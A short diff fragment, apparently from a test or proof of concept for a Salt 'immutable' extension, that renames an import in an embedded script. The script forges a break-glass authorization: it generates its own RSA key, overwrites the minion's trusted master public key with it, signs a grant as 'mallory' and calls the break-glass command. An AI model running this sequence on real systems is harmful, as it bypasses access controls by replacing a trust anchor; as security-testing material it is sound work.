@@ -76,7 +76,7 @@ salt-call --out=json immutable.break_glass_challenge 900 > /tmp/challenge && cat
 import json
 from cryptography.hazmat.primitives.asymmetric import rsa
 from cryptography.hazmat.primitives.serialization import Encoding, NoEncryption, PrivateFormat, PublicFormat
-from saltext.immutable.guard import token
+from saltext.immutable.guard import break_glass_token
 key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
 public = key.public_key().public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
 place = "/var/lib/salt/pki/minion/minion_master.pub"
@@ -87,7 +87,7 @@ with open(place + ".own", "wb") as file:
 asked = json.load(open("/tmp/challenge"))["local"]
 bound = {name: asked[name] for name in ("machine", "nonce", "boot_id", "until")}
 private = key.private_bytes(Encoding.PEM, PrivateFormat.PKCS8, NoEncryption())
-print(token.sign(token.Grant(**bound, reason="none", who="mallory"), private))
+print(break_glass_token.sign(break_glass_token.Grant(**bound, reason="none", who="mallory"), private))
 END
 token=$(/opt/salt/bin/python /tmp/sign.py); cd /var/lib/salt/pki/minion; cp minion_master.pub /tmp/true.pub
 cat minion_master.pub.own > minion_master.pub; salt-call --local immutable.break_glass $token; code=$?
